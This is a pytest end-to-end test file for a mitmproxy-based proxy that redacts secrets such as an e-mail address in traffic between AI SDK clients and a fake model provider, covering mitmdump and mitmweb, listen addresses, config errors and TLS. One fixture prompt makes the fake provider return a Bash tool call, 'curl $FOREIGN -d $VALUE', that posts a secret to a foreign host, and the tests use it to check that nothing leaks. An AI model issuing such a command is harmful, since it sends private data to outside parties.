"""The same bundle under mitmproxy's own tools, and towards a provider that is reached over TLS and HTTP/2."""

import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import psutil
import pytest

from addons.demo.provider import FakeProvider
from addons.demo.provider.script import FOREIGN
from addons.demo.provider.tls import Authority
from tests.e2e.harness import (
    PLANTED,
    WAYS,
    Proxy,
    Tool,
    Way,
    claude,
    command,
    free_ports,
    gpt,
    leaked,
    placeholders,
    user,
)

MAIL = PLANTED["e-mail"]


def works(proxy: Proxy, way: Way, provider: FakeProvider) -> None:
    """The main job in four calls: plain, streamed, tools, and a refusal."""
    provider.clear()
    messages = claude(proxy, way).messages
    plain: Any = messages.create(model="m", max_tokens=9, messages=user(f"I am {MAIL}"))
    assert plain.content[0].text == f"You said: I am {MAIL}"
    with messages.stream(model="m", max_tokens=9, messages=user(f"I am {MAIL}")) as stream:
        assert stream.get_final_text() == f"You said: I am {MAIL}"
    tools = f'{MAIL} [[tool Write {{"content": "$VALUE"}}]] [[tool Bash {{"command": "curl $FOREIGN -d $VALUE"}}]]'
    calls: Any = messages.create(model="m", max_tokens=9, messages=user(tools))
    assert calls.content[0].input == {"content": MAIL}
    assert calls.content[1].input == {"command": f"curl {FOREIGN} -d {placeholders(provider.received[0])[0]}"}
    answer = gpt(proxy, way).chat.completions.create(model="m", messages=user(f"I am {MAIL}"))
    assert answer.choices[0].message.content == f"You said: I am {MAIL}"
    assert len(provider.received) == 4
    assert not leaked(provider)


@pytest.fixture(params=["mitmdump", "mitmweb"], scope="module")
def tool_proxy(
    request: pytest.FixtureRequest, shared_provider: FakeProvider, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Proxy]:
    running = Proxy.start(tmp_path_factory.mktemp(request.param), shared_provider.url, tool=request.param)
    yield running
    running.stop()


@pytest.mark.parametrize("way", WAYS)
def test_mitmproxys_tools_serve_the_same(tool_proxy: Proxy, provider: FakeProvider, way: Way) -> None:
    works(tool_proxy, way, provider)


@pytest.mark.parametrize("explicit", ["host", "port", "both"])
def test_an_explicit_address_wins_and_nothing_else_is_listened_at(
    shared_provider: FakeProvider, provider: FakeProvider, tmp_path: Path, explicit: str
) -> None:
    """mitmproxy has begun to listen, with its own defaults, before it loads a script."""
    port = free_ports(1)[0]
    words = {"host": [], "port": ["-p", str(port)], "both": ["-p", str(port)]}[explicit]
    words += [] if explicit == "port" else ["--listen-host", "127.0.0.1"]
    proxy = Proxy.start(tmp_path, shared_provider.url, tool="mitmdump", arguments=words)
    proxy.port = proxy.port if explicit == "host" else port
    claude(proxy).messages.create(model="m", max_tokens=9, messages=user("hello"))
    found = psutil.Process(proxy.process.pid).net_connections("tcp")
    assert {one.laddr.port for one in found if one.status == psutil.CONN_LISTEN} == {proxy.port, proxy.admin_port}
    proxy.stop()


@pytest.mark.parametrize("tool", ["up", "mitmdump"])
def test_a_bad_file_ends_with_2_before_anything_listens(tmp_path: Path, tool: Tool) -> None:
    configuration = tmp_path / "tokenman.yaml"
    configuration.write_text("redaktion: {mode: off}\n")
    ended = subprocess.run(
        command(tool, configuration),
        capture_output=True,
        text=True,
        timeout=30,
        env={"HOME": str(tmp_path)},
        check=False,
    )
    assert ended.returncode == 2
    assert "redaktion" in ended.stderr + ended.stdout
    assert "Traceback" not in ended.stderr + ended.stdout


@pytest.mark.parametrize("protocols", [("h2", "http/1.1"), ("http/1.1",)], ids=["h2", "h1"])
def test_a_provider_behind_tls_is_served(tmp_path: Path, protocols: tuple[str, ...]) -> None:
    authority = Authority(tmp_path)
    provider = FakeProvider(tls=authority.server(protocols=protocols)).start_in_thread()
    folder = tmp_path / "proxy"
    folder.mkdir()
    try:
        proxy = Proxy.start(folder, provider.url, environment={"SSL_CERT_FILE": str(authority.certificate)})
        try:
            works(proxy, "base_url", provider)
            assert {one.http_version for one in provider.received} == {"2" if protocols[0] == "h2" else "1.1"}
            assert provider.connections == 1, "all clients share one connection"
        finally:
            proxy.stop()
    finally:
        provider.stop()


def test_a_provider_with_a_certificate_that_nobody_signed_gets_nothing(tmp_path: Path) -> None:
    provider = FakeProvider(tls=Authority(tmp_path).server()).start_in_thread()
    folder = tmp_path / "proxy"
    folder.mkdir()
    try:
        proxy = Proxy.start(folder, provider.url)
        try:
            with pytest.raises(Exception, match="502"):
                claude(proxy).messages.create(model="m", max_tokens=9, messages=user(f"I am {MAIL}"))
            assert not provider.received
        finally:
            proxy.stop()
    finally:
        provider.stop()
